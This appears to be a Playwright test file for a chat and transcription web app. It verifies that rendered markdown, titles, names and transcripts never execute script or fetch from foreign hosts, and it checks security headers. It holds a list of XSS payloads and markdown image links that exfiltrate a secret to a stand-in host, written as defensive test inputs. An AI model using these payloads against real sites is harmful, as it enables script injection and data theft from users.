"""Nothing that people, models or files say runs, and nothing of it is fetched."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from infra.local.recordings import spoken_wav
from infra.local.stack import ROOT, LocalStack
from tests.browser.conftest import Watched
from tests.model_servers import Act, OpenAiServer

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.test><input name=q><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import 'https://evil.test/x.css';</style>",
    '<div style="background:url(https://evil.test/x)">x</div>',
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<video src=https://evil.test autoplay onplay=alert(1)></video>",
    "![x](https://evil.test/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.test/?q=SECRET",
    "<img src=https://evil.test/?q=SECRET srcset='https://evil.test/2 2x'>",
    "<table background=https://evil.test><tr><td>x</td></tr></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "https://evil.test/autolink",
    "<a href=https://evil.test target=_self>x</a>",
    "\u202e<img src=x onerror=alert(1)>",
)


KNOWN: list[str] = json.loads((ROOT / "tests/browser/dompurify_payloads.json").read_text())["payloads"]
"""Those with which DOMPurify is tested itself."""
LIVE = """async (texts) => {
    const { safeHtml } = await import("/app/parts/markdown.js");
    const place = document.body.appendChild(document.createElement("div"));
    const bad = ["SCRIPT", "STYLE", "IFRAME", "IMG", "SVG", "FORM", "INPUT", "OBJECT", "VIDEO", "LINK", "BASE"];
    const live = () => [...place.querySelectorAll("*")].flatMap((node) => [
        ...(bad.includes(node.nodeName.toUpperCase()) ? [node.nodeName] : []),
        ...[...node.attributes].filter(({ name }) => name.startsWith("on") || name === "style" || name === "src").map(({ name }) => name),
        ...(node.nodeName === "A" && node.hasAttribute("href") && !/^(https?|mailto):/.test(node.href) ? [node.href] : []),
        ...(node.nodeName === "A" && node.rel !== "noopener noreferrer nofollow" ? ["rel"] : []),
    ]);
    const found = [];
    for (const text of texts) {
        const prefixes = Array.from({ length: text.length }, (_, count) => text.slice(0, count + 1));
        for (const shown of [...prefixes, `before\n\n${text}\n\nafter`]) {
            place.innerHTML = safeHtml(shown);
            if (live().length) found.push([shown, live(), place.innerHTML]);
        }
    }
    place.remove();
    return found;
}"""
"""What of the texts, and of each of their beginnings, became something that acts or fetches."""


def test_no_markdown_runs_or_fetches_anything(page: Page) -> None:
    """L-05, L-06: at every prefix too, as it streams. The page is watched for dialogs, foreign requests and breaches of its policy."""
    assert len(KNOWN) > 200
    assert page.evaluate(LIVE, [*HOSTILE, *KNOWN]) == []


def test_no_title_is_more_than_text(page: Page) -> None:
    """L-05"""
    like = {"archived": False, "message_count": 1, "updated_at": "2026-01-01T00:00:00Z", "settings": {}, "model": None}
    titles = [text for text in (*HOSTILE, *KNOWN) if text.strip()]
    found = [{"id": f"conv_{number}", "title": title, **like} for number, title in enumerate(titles)]
    page.route("**/v1/conversations?**", lambda route: route.fulfill(json={"data": found, "next_cursor": None}))
    page.reload()
    expect(page.locator(".chats strong")).to_have_count(len(titles))
    assert page.locator(".chats strong").evaluate_all("all => all.map((each) => each.textContent)") == titles
    assert page.locator(".chats strong *").count() == 0


def test_hostile_titles_messages_names_and_answers_are_text(page: Page, provider: OpenAiServer) -> None:
    """L-05"""
    hostile = "<img src=x onerror=alert(1)> <script>alert(2)</script> ![x](https://evil.test/?q=1)"
    provider.script[:] = [Act((hostile,)), Act((hostile,))]
    made = page.evaluate(
        """async hostile => {
            const { post } = await import("/app/api.js");
            const made = await post("/v1/conversations", { title: hostile });
            await post("/v1/presets", { name: hostile.slice(0, 90), settings: {} });
            await post("/v1/devices", { name: hostile.slice(0, 90), platform: "web", capabilities: [{ action: "x", description: hostile }] });
            await post("/v1/webhooks", { url: "http://127.0.0.1:9/", events: ["*"], description: hostile });
            await post("/v1/transcriptions", { filename: hostile, content_type: "audio/wav", size: 10 });
            return made.id;
        }""",
        hostile,
    )
    for path in ("/devices", "/webhooks", "/transcripts", "/dashboard", f"/chat/{made}"):
        page.goto(path)
        expect(page.get_by_text("onerror=alert(1)").first).to_be_visible()
    page.get_by_label("Message", exact=True).fill(hostile)
    page.get_by_label("Message", exact=True).press("Enter")
    expect(page.locator(".message.assistant .meta")).to_be_visible()
    assert page.locator(".message img, .message script").count() == 0
    provider.script[:] = [Act(("Good ", "**mor", "ning**."))]


def test_hostile_words_and_speakers_of_a_transcript_are_text(page: Page, tmp_path: Path) -> None:
    """L-05: as names of files, titles, speakers and corrections."""
    hostile = "<img src=x onerror=alert(1)> ![x](https://evil.test/?q=1)"
    talk = tmp_path / "<img src=x onerror=alert(1)>.wav"
    talk.write_bytes(spoken_wav(2))
    page.goto("/transcripts")
    page.get_by_label("Tell speakers apart").check()
    page.get_by_label("Files").set_input_files(talk)
    row = page.locator("a.row", has_text="onerror=alert(1)")
    expect(row.locator(".badge")).to_have_text("Done", timeout=60_000)
    row.click()
    page.get_by_role("button", name="Names").click()
    fields = page.get_by_role("dialog").locator("form input")
    for index in range(fields.count()):
        fields.nth(index).fill(hostile)
    page.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(hostile)
    page.get_by_role("button", name="Correct this text").first.click()
    page.get_by_label("Text", exact=True).fill(hostile)
    page.locator(".segment").get_by_role("button", name="Save").click()
    expect(page.locator(".segment p").first).to_contain_text(hostile)
    assert page.locator("main img, main script").count() == 0


def test_the_policy_of_the_pages(stack: LocalStack) -> None:
    """A-54"""
    for path in ("/", "/chat/conv_x", "/app/main.js"):
        headers = httpx.get(stack.url + path, timeout=30, trust_env=False).headers
        policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
        assert (
            policy["default-src"] == policy["object-src"] == policy["base-uri"] == policy["frame-ancestors"] == "'none'"
        )
        assert policy["script-src"] == policy["style-src"] == "'self'"
        assert policy["require-trusted-types-for"] == "'script'"
        assert headers["x-content-type-options"] == "nosniff"
    assert httpx.get(f"{stack.url}/app/nothing.js", timeout=30, trust_env=False).status_code == 404


@pytest.mark.parametrize("inline", ["<script>window.ran = 1</script>", "<img src=x onerror='window.ran = 1'>"])
def test_the_browser_itself_refuses_inline_code(page: Page, watched: Watched, inline: str) -> None:
    """Trusted Types: HTML that did not go through the sanitizer is no HTML."""
    watched.allowed.append("TrustedHTML")
    refused = page.evaluate(
        "html => { try { document.body.insertAdjacentHTML('beforeend', html); return false; } catch { return true; } }",
        inline,
    )
    assert refused
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(("name", "kind"), [("page.html", "audio/wav"), ("picture.svg", "image/png")])
def test_downloads_are_attachments(page: Page, stack: LocalStack, name: str, kind: str) -> None:
    """U-31: a file of a person is never shown as a page of ours, and comes from another origin."""
    found = page.evaluate(
        """async ([name, type]) => {
            const { get, post, send } = await import("/app/api.js");
            const file = new File([new Uint8Array(2048)], name, { type });
            const media = await post("/v1/uploads", { filename: name, content_type: type, size: 2048, purpose: "chat" });
            await send(media, file);
            for (;;) {
                const found = await get(`/v1/media/${media.id}`);
                if (found.status !== "awaiting_upload") return found;
                await new Promise((resolve) => setTimeout(resolve, 200));
            }
        }""",
        [name, kind],
    )
    assert not found["url"].startswith(stack.url)
    answer = httpx.get(found["url"], timeout=30, trust_env=False)
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["content-type"] == kind
